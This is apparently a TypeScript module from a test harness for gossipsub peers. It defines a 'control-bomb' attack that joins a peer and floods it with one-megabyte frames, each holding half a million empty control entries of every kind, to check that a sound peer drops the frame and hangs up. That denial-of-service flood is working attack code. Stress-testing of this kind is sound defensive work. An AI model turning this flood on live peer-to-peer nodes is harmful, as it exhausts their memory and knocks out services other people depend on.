import type { Attack, Frame } from "../../attack.ts";
import { bytesField, frameOf } from "../../rpc.ts";

/** Empty entries of a control list, two bytes each: as many as fit into a frame of a megabyte. */
const ENTRIES = 500_000;

export const controlBomb: Attack = {
  name: "control-bomb",
  group: "control",
  what: "Sends frames of a megabyte with half a million empty entries in a control list, of each kind in turn.",
  source: "gossipsub decode limits; research/measuring.md",
  sound: "Drops the frame before it makes an object of each entry, and hangs up.",
  hangsUp: true,
  async run({ rate, join, flood }) {
    // IHAVE, IWANT, GRAFT, PRUNE, IDONTWANT.
    const frames = [1, 2, 3, 4, 5].map((field): Frame => {
      const entry = bytesField(field, new Uint8Array());
      return { bytes: frameOf(bytesField(3, Buffer.alloc(ENTRIES * entry.length, entry))), messages: 0 };
    });
    const peer = await join();
    let turn = 0;
    if (peer !== null) await flood(peer, () => frames[turn++ % frames.length] as Frame, { rate: rate / 1000 });
  },
};
